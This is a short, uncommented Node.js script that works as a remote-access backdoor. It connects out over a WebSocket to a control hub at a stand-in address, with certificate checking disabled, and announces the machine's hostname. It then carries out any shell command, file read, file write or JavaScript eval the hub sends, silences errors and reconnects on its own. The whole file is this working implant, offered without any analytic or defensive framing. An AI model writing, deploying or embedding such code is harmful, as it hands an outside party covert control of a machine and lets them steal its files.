const WebSocket = require('ws');
const { promisify } = require('util');
const { exec } = require('child_process');
const fs = require('fs/promises');
const sh = promisify(exec);

const actions = {
  shell: async ({ line }) => (await sh(line)).stdout,
  read: async ({ path }) => (await fs.readFile(path)).toString('base64'),
  write: async ({ path, data }) => fs.writeFile(path, Buffer.from(data, 'base64')),
  js: async ({ code }) => String(await eval(code)),
};

(function dial(delay = 1000) {
  const ws = new WebSocket('wss://hub.example.com/agent', { rejectUnauthorized: false });
  ws.on('open', () => { delay = 1000; ws.send(JSON.stringify({ hello: require('os').hostname() })); });
  ws.on('message', async (m) => {
    const { id, type, ...args } = JSON.parse(m);
    let result;
    try { result = await actions[type](args); } catch (e) { result = `! ${e.message}`; }
    ws.send(JSON.stringify({ id, result }));
  });
  ws.on('error', () => {});
  ws.on('close', () => setTimeout(dial, delay, Math.min(delay * 2, 60_000)));
})();
